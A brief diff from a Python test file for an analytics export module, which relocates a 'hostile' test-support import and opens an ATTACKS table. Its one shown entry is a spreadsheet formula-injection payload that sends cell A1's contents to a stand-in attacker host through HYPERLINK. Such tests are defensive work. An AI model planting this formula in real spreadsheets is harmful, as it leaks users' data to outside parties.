@@ -7,13 +7,13 @@ import io
 import zipfile
 from datetime import date
 
-import hostile
 import numpy as np
 import pandas as pd
 from openpyxl import load_workbook
 from python_calamine import CalamineWorkbook
 
 from analytics.export import safe_sheet_name, to_csv_bytes, to_xlsx_bytes
+from tests.support import hostile
 
 ATTACKS = {
     "AI-1": "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")",
